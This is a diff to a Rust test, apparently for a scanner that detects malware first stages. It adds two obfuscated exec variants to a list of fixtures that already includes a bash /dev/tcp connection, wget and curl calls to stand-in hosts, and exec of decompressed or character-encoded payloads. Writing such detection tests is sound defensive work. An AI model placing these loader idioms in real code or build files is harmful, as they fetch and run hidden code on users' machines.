@@ -30,6 +30,8 @@ fn first_stages_are_found() {
         ("a.py", "subprocess.Popen([sys.executable, '-c', zlib.decompress(blob)])"),
         ("a.sh", "bash -c 'cat < /dev/tcp/10.0.0.1/80'"),
         ("a.py", "exec(''.join(chr(x) for x in data))"),
+        ("a.py", "exec(''.join(chr(x) for x in range(0) or data))"),
+        ("a.py", "exec(''.join(map(chr, data)))"),
         ("a.py", "exec(''.join(chr(x[i] - 1) for i in range(len(x))))"),
         ("a.c", "system(\"wget http://x.example\");"),
         ("build.rs", "std::process::Command::new(\"curl\").arg(\"https://x.example\").status();"),
